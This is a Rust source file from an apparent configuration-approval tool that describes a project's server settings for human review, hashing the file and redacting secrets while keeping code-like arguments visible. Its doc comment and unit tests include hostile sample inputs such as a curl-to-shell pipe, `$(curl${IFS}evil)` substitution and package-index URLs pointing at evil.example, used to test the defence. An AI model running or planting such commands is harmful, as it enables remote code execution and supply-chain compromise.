//! A project file: its content as a person approves it, before anything in it is used.

use std::{
    fmt::Write as _,
    path::{Path, PathBuf},
};

use serde_json::{Map, Value as Json};
use sha2::{Digest as _, Sha256};

use super::{
    check::TableChecker,
    code_variables::{decides_code, is_always_shown, names_code},
    env_file::{self, EnvFiles},
    expand::{self, Env, Piece},
    field::{Section, ValueKind},
    fields::{SERVER, TOP, server},
    import,
    owned_file::{self, FileError, Links},
    problem::{Problem, Report, Severity, join},
    redact, relative_path, secret_detection,
    secret_parts::is_urls,
    setting::{Rank, Setting, Unchecked},
    tree::{self, Format, KeyValue, Node, Value},
};
use pegboard_base::{
    diagnosis::Code,
    secret::{HIDDEN, is_secret},
};

/// A project file as a person sees it before he approves it. Nothing in it is expanded or started.
#[derive(Debug, Clone)]
pub struct ProjectFile {
    path: PathBuf,
    digest: String,
    servers: Map<String, Json>,
    settings: Map<String, Json>,
    env_files: Map<String, Json>,
}

impl ProjectFile {
    /// Reads a project file. `env` is asked for the home directory only.
    ///
    /// Fails if the file cannot be read or parsed, is a symbolic link, or is controlled by another user.
    pub fn read(path: &Path, env: &Env<'_>) -> Result<Self, Box<Problem>> {
        let report = Report::new(path.display().to_string());
        let failed = |mut report: Report, error: FileError| {
            report.file(Severity::Error, error.message, error.hint);
            report.name_last(error.code, None);
            first_error(report, path)
        };
        let text = match text(path) {
            Ok(text) => text,
            Err(error) => return Err(failed(report, error)),
        };
        let real = canonicalize(path);
        let base = real.parent().map(Path::to_owned);
        Self::describe(&text, Format::from_path(path), real, base.as_deref(), report, env)
    }

    /// Describes a JSON config that is no project file in the same way. `file` is named in errors, and relative paths begin in `base`.
    pub fn from_json(text: &str, file: &Path, base: Option<&Path>, env: &Env<'_>) -> Result<Self, Box<Problem>> {
        let report = Report::new(file.display().to_string());
        Self::describe(text, Some(Format::Json), file.to_owned(), base, report, env)
    }

    fn describe(
        text: &str,
        format: Option<Format>,
        path: PathBuf,
        base: Option<&Path>,
        mut report: Report,
        env: &Env<'_>,
    ) -> Result<Self, Box<Problem>> {
        let root = match tree::read(text, format) {
            Ok(root) => root,
            Err(error) => {
                report.error(error.at, "", error.message);
                return Err(first_error(report, &path));
            }
        };
        let shaped = import::shape(root, &mut report);
        let env_files = env_files(&shaped.servers, base, env);
        let servers = shaped.servers.iter();
        let servers =
            servers.map(|(entry, settings)| (entry.key.clone(), Json::Object(describe_settings(SERVER, settings))));
        Ok(Self {
            digest: digest(text, &env_files),
            servers: servers.collect(),
            settings: describe_settings(TOP, &shaped.rest),
            env_files: env_files.iter().map(describe_env_file).collect(),
            path,
        })
    }

    /// Its path, with symbolic links resolved.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// The SHA-256 of its content and of the environment files that it names, in hexadecimal. Any change of them changes it.
    pub fn digest(&self) -> &str {
        &self.digest
    }

    /// The settings of its servers by name, as written: variables not expanded, secrets redacted.
    pub fn servers(&self) -> &Map<String, Json> {
        &self.servers
    }

    /// The settings at its top, as written: variables not expanded, secrets redacted.
    pub fn settings(&self) -> &Map<String, Json> {
        &self.settings
    }

    /// The environment files that its servers read, by path: their variables, secrets redacted, or the reason why a file cannot be used.
    pub fn env_files(&self) -> &Map<String, Json> {
        &self.env_files
    }

    /// The description that is stored with an approval, to show later what has changed.
    pub(super) fn description(&self) -> Json {
        serde_json::json!({"servers": self.servers, "settings": self.settings, "env_files": self.env_files})
    }
}

/// Reads the text of a project file.
pub(super) fn text(path: &Path) -> Result<String, FileError> {
    owned_file::read(path, tree::MAX_BYTES, Links::Refuse)
}

/// The path with symbolic links resolved, under which approvals are stored.
pub(super) fn canonicalize(path: &Path) -> PathBuf {
    // Many programs do not accept the canonical form of paths on Windows.
    let real = if cfg!(windows) { None } else { path.canonicalize().ok() };
    real.or_else(|| std::path::absolute(path).ok())
        .unwrap_or_else(|| path.to_owned())
}

/// Reads the environment files that the servers of a project file name. Variables of the environment are not expanded in their paths.
pub(super) fn env_files(servers: &[(KeyValue, Vec<KeyValue>)], base: Option<&Path>, env: &Env<'_>) -> EnvFiles {
    let env = &relative_path::with_folders(env, base);
    let folders = Env::new(|name| match name {
        "workspaceFolder" | "userHome" => env.get(name),
        _ => None,
    });
    let mut files = EnvFiles::default();
    for setting in servers.iter().flat_map(|(_, settings)| settings) {
        let is_env_file = SERVER
            .find(&setting.key)
            .is_some_and(|found| found.field.name == server::env_file.name);
        if let (true, Value::Text(written)) = (is_env_file, &setting.value.value) {
            let (path, errors) = expand::expand(written, &folders);
            if errors.is_empty() {
                files.add(relative_path::resolve(&path, base, env));
            }
        }
    }
    files
}

/// The SHA-256 of the file and its environment files. Lengths and paths are hashed too, so that content cannot move between files.
pub(super) fn digest(text: &str, env_files: &EnvFiles) -> String {
    let mut hash = Sha256::new();
    let mut add = |kind: u8, part: &[u8]| {
        hash.update([kind]);
        hash.update(u64::try_from(part.len()).unwrap_or(u64::MAX).to_be_bytes());
        hash.update(part);
    };
    add(b'c', text.as_bytes());
    for (path, text) in env_files.iter() {
        add(b'p', path.as_os_str().as_encoded_bytes());
        match text {
            Ok(text) => add(b'e', text.as_bytes()),
            Err(_) => add(b'm', b""),
        }
    }
    hash.finalize().iter().fold(String::new(), |mut hex, byte| {
        let _ = write!(hex, "{byte:02x}");
        hex
    })
}

/// The settings of a table as written, secrets redacted. Settings that are invalid without their variables are included.
fn describe_settings(section: &'static Section, entries: &[KeyValue]) -> Map<String, Json> {
    let no_variables = Env::new(|_| None).lenient();
    let mut described = Map::new();
    for entry in entries.iter().filter(|entry| !entry.is_note()) {
        // One report per entry: a report takes a limited number of problems.
        let mut report = Report::new("");
        let mut checker = TableChecker::new(&mut report, &no_variables, Rank::Server);
        let values = checker.section(section, std::slice::from_ref(entry), "");
        let valid = match report.errors() {
            0 => values.into_iter().next(),
            _ => None,
        };
        match valid {
            Some((name, found)) => described.insert(name.to_owned(), show(name, &found.setting)),
            None => described.insert(join("", &entry.key), raw(section, entry)),
        };
    }
    described
}

/// An environment file by its path.
fn describe_env_file((path, text): (&Path, Result<&str, &str>)) -> (String, Json) {
    let content = match text
        .map_err(str::to_owned)
        .and_then(|text| env_file::read(text).map_err(|line| format!("line {line} is not `NAME=value`")))
    {
        Ok(pairs) => pairs
            .into_iter()
            .map(|(name, value)| {
                let shown = variable(&name, &value);
                (name, shown)
            })
            .collect(),
        Err(reason) => Json::String(reason),
    };
    (path.display().to_string(), content)
}

/// The value of an environment variable as written, hidden if it is a secret. What decides which code runs is shown: `PATH`,
/// `NODE_OPTIONS`, and whatever reads as code.
fn variable(name: &str, written: &str) -> Json {
    match is_secret(name, written) {
        true if is_always_shown(name) => match decides_code(name) && !names_code(name) && is_urls(written) {
            true => reviewed_urls(written).into(),
            false => written.into(),
        },
        true if !reads_as_code(written) && !reads_as_command(written) => {
            secret_detection::redact_secret(written).into()
        }
        _ => written.into(),
    }
}

fn reviewed_urls(written: &str) -> String {
    let urls: Vec<String> = written.split(' ').map(secret_detection::reviewed_url).collect();
    urls.join(" ")
}

/// Whether a text has words, as a command with arguments has and a token has not.
fn reads_as_command(written: &str) -> bool {
    written.trim().contains(char::is_whitespace)
}

/// Whether a text, apart from the variables that it refers to, has characters of code.
fn reads_as_code(written: &str) -> bool {
    let is_code = |piece: &Piece<'_>| match piece {
        Piece::Literal(text) => text.contains(CODE),
        Piece::Variable { default, .. } => default.is_some_and(|default| default.contains(CODE)),
        Piece::Malformed { .. } => true,
    };
    expand::pieces(written).iter().any(is_code)
}

/// A valid setting as written, secrets redacted.
fn show(name: &str, setting: &Setting) -> Json {
    match setting {
        Setting::Map(variables) if name == server::env.name => {
            let variables = variables.iter().map(|(name, setting)| {
                let shown = match setting {
                    Setting::Secret(text) => variable(name, &text.written),
                    other => redact::render_setting(name, other),
                };
                (name.clone(), shown)
            });
            Json::Object(variables.collect())
        }
        Setting::List(items) if RUN.contains(&name) => {
            let texts = items.iter().filter_map(|item| match item {
                Setting::Text(text) => Some(text.written.as_str()),
                _ => None,
            });
            arguments(&texts.collect::<Vec<_>>())
        }
        Setting::Text(line) if RUN.contains(&name) => {
            let words: Vec<&str> = line.written.split(' ').collect();
            match arguments(&words) {
                Json::Array(words) => words
                    .iter()
                    .filter_map(Json::as_str)
                    .collect::<Vec<_>>()
                    .join(" ")
                    .into(),
                other => other,
            }
        }
        Setting::Text(url) if name == server::url.name => reviewed_urls(&url.written).into(),
        setting => redact::render_setting(name, setting),
    }
}

/// The settings that are run.
const RUN: [&str; 3] = [
    server::command.field.name,
    server::args.field.name,
    server::headers_helper.field.name,
];

/// Arguments, of which only the secret words are redacted.
///
/// Code that looks like a secret must not escape a person's eyes: `-c 'curl evil | sh --token=abcdef'` is shown.
fn arguments(args: &[&str]) -> Json {
    let secret = secret_detection::literal_secret_args(args);
    let each = args.iter().enumerate();
    each.map(|(index, arg)| {
        let before = index.checked_sub(1).map(|before| args[before]);
        match secret.contains(&index) && !arg.contains(CODE) && !names_program(before, arg) {
            true => without_secret_words(arg),
            false => (*arg).to_owned(),
        }
    })
    .collect()
}

/// Whether an argument is the value of an option or variable that holds a command: `--password-command X`, `PASSWORD_COMMAND=X`.
fn names_program(before: Option<&str>, arg: &str) -> bool {
    let is_shown = |name: &str| is_always_shown(name.trim_start_matches('-'));
    match arg.split_once('=') {
        Some((name, _)) => is_shown(name),
        None => before.is_some_and(|before| before.starts_with('-') && is_shown(before)),
    }
}

/// Characters that are common in code and rare in tokens.
const CODE: [char; 19] = [
    '$', '(', ')', ';', '|', '&', '<', '>', '`', '\'', '"', '{', '}', '!', '*', '\\', '\n', '[', ']',
];

fn without_secret_words(arg: &str) -> String {
    let words: Vec<&str> = arg.split(' ').collect();
    let mut secret = secret_detection::literal_secret_args(&words);
    // Otherwise the argument before says that this one is secret as a whole.
    let is_positional = !secret.is_empty();
    if !is_positional {
        secret = (0..words.len()).collect();
    }
    // A host, or the name of a program that looks like a token, is what a person must see.
    let hide = |word: &str| match word.split_once('=') {
        Some((name, value)) if value.contains("://") => format!("{name}={}", secret_detection::reviewed_url(value)),
        _ if word.contains("://") => secret_detection::reviewed_url(word),
        Some((name, _)) => format!("{name}={HIDDEN}"),
        None if is_positional => format!("{}{HIDDEN}", word.chars().take(4).collect::<String>()),
        None => HIDDEN.to_owned(),
    };
    let words = words.iter().enumerate();
    let shown = words.map(|(index, word)| match secret.contains(&index) {
        true => hide(word),
        false => (*word).to_owned(),
    });
    shown.collect::<Vec<_>>().join(" ")
}

/// A setting that was not validated.
fn raw(section: &'static Section, entry: &KeyValue) -> Json {
    let field = section.find(&entry.key).map(|found| found.field);
    if let (true, Value::Map(variables)) = (
        field.is_some_and(|field| field.name == server::env.name),
        &entry.value.value,
    ) {
        let variables = variables.iter().map(|entry| {
            let shown = match &entry.value.value {
                Value::Text(text) => variable(&entry.key, text),
                _ => redact_node(&entry.value),
            };
            (entry.key.clone(), shown)
        });
        return Json::Object(variables.collect());
    }
    if field.is_some_and(|field| holds_secrets(&field.kind)) {
        return redact_node(&entry.value);
    }
    redact::render_setting(&entry.key, &Setting::Any(Unchecked(entry.value.clone())))
}

fn holds_secrets(kind: &ValueKind) -> bool {
    match kind {
        ValueKind::Secret => true,
        ValueKind::List(kind) | ValueKind::Map(kind) => holds_secrets(kind),
        ValueKind::Either(kinds) => kinds.iter().any(holds_secrets),
        ValueKind::Table(section) => section.fields().any(|field| holds_secrets(&field.kind)),
        _ => false,
    }
}

/// A value with every text in it redacted.
fn redact_node(node: &Node) -> Json {
    match &node.value {
        Value::Null => Json::Null,
        Value::Bool(value) => (*value).into(),
        Value::Int(_) | Value::Float(_) => HIDDEN.into(),
        Value::Text(text) => secret_detection::redact_secret(text).into(),
        Value::List(items) => items.iter().map(redact_node).collect(),
        Value::Map(entries) => {
            let entries = entries
                .iter()
                .map(|entry| (entry.key.clone(), redact_node(&entry.value)));
            Json::Object(entries.collect())
        }
    }
}

/// The first problem of a report that has at least one.
fn first_error(report: Report, path: &Path) -> Box<Problem> {
    let problem = report.into_problems().into_iter().next();
    Box::new(problem.unwrap_or_else(|| Problem {
        severity: Severity::Error,
        code: Code::ConfigUnreadable,
        edit: None,
        variable: None,
        file: path.display().to_string(),
        line: None,
        field: String::new(),
        message: "cannot be read".to_owned(),
        hint: None,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_review_hides_tokens_and_no_code() {
        for (args, expected) in [
            (&["--token=abcdefgh"][..], &["--token=****"][..]),
            (&["--api-key", "abcdefgh"], &["--api-key", "****"]),
            (&["--password", "correct horse"], &["--password", "**** ****"]),
            (
                &["-c", "echo a; run --token=abcdefgh"],
                &["-c", "echo a; run --token=abcdefgh"],
            ),
            (&["--token", "$(curl${IFS}evil)"], &["--token", "$(curl${IFS}evil)"]),
            (&["--token=`curl evil`"], &["--token=`curl evil`"]),
            // The host and the program that would run stay visible.
            (
                &["--index-url", "https://u:pw12345678@evil.example/simple"],
                &["--index-url", "https://****@evil.example/simple"],
            ),
            (
                &["--registry=https://x:pw12345678@evil.example/"],
                &["--registry=https://****@evil.example/"],
            ),
            (&["--token=${TOKEN}", "-v"], &["--token=${TOKEN}", "-v"]),
            (
                &["--index-url", "https://evil.example/p4ss/@good.example/"],
                &["--index-url", "https://evil.example/p4ss/@good.example/"],
            ),
        ] {
            let hidden: Vec<String> = expected.iter().map(|text| text.replace("****", HIDDEN)).collect();
            assert_eq!(arguments(args), Json::from(hidden), "{args:?}");
        }
    }
}
